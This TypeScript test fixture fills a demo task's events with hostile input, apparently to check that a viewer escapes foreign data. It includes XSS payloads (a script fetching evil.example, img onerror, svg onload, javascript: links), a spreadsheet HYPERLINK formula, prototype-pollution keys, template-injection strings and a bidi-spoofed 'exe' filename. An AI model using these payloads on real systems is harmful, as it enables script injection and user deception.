import { attributeMap, type AttributeMap } from '#shared/model/attributeValue.ts';
import { DAY, HOUR, MINUTE, rfc3339 } from '../clock.ts';
import { honestTask, type DemoTask } from '../demoTask.ts';
import { eventKey } from '../../stores/taskEvents/keys.ts';
import type { TaskEvent } from '#shared/model/taskEvent.ts';
import { list, map, text, textSet } from '../values.ts';
import { PLANTED } from './ids.ts';
import type { PlantedOptions } from './kit.ts';
import { hostileLetter } from './letters.ts';

const SCRIPT = '<script>window.__pwned=1;fetch("https://evil.example/")</script>';
const IMAGE = '<img src="https://evil.example/x.png" onerror="window.__pwned=1">';
const LINK = '<a href="javascript:window.__pwned=1">Refund approved</a>';
/** U+202E turns what follows around: it reads "invoice_exe.pdf" but ends in "exe". */
const BIDI = 'invoice_\u202efdp.exe\u202c \u2067שלום\u2069 مرحبا \u200b\u0000\u001b[31m';
const FORMULA = '=HYPERLINK("https://evil.example","click")';
const TEMPLATE = '${process.exit()} {{constructor.constructor("alert(1)")()}} %s %n';

const payload = (more: readonly (readonly [string, AttributeMap[string]])[]): AttributeMap =>
  attributeMap([
    [`${IMAGE} name`, text(SCRIPT)],
    ['__proto__', map({ polluted: text('yes') })],
    ['constructor', text(TEMPLATE)],
    [BIDI, list([text(LINK), textSet([SCRIPT, FORMULA]), { B: 'PHNjcmlwdD4=' }])],
    ['<svg/onload=window.__pwned=1>', { NULL: true }],
    ...more,
  ]);

/** Every field that a foreign writer controls tries to be more than text. */
export function hostileTask(options: PlantedOptions): DemoTask {
  const startMs = options.now - DAY - 5 * HOUR;
  const types: readonly (readonly [string, AttributeMap])[] = [
    [
      'TaskCreated',
      payload([
        ['title', text(`${IMAGE}${SCRIPT} ${BIDI}`)],
        ['assignee', text(LINK)],
      ]),
    ],
    ['TaskAssigned', payload([['assignee', text(`${SCRIPT}${BIDI}`)]])],
    ['TaskStarted', payload([['worker', text(IMAGE)]])],
    [
      'TaskProgressed',
      payload([
        ['progress', { N: '42' }],
        ['message', text(`${LINK} ${BIDI}`)],
      ]),
    ],
    [`${IMAGE}<b>TaskPaid</b>\u202eliaF`, payload([])],
    ['TaskFailed', payload([['error', map({ code: text(SCRIPT), message: text(`${IMAGE} ${TEMPLATE}`) })]])],
    ['TaskDeadLettered', payload([['reason', text(`${FORMULA} ${SCRIPT}`)]])],
  ];
  const events = types.map(([type, data], index): TaskEvent => ({
    seq: index + 1,
    key: eventKey(index + 1),
    type,
    at: rfc3339(startMs + index * 7 * MINUTE),
    data,
    actor: `${IMAGE}${BIDI}`,
    correlationId: SCRIPT,
    causationId: `"><${LINK}`,
    idempotencyKey: `${TEMPLATE}${BIDI}`,
  }));
  const words = [`${IMAGE}#queue`, `${LINK}#${BIDI}`, SCRIPT, `${IMAGE} ${TEMPLATE}`] as const;
  const others = hostileLetter(PLANTED.hostile, events, words);
  return honestTask(PLANTED.hostile, events, { others, planted: 'hostile' });
}
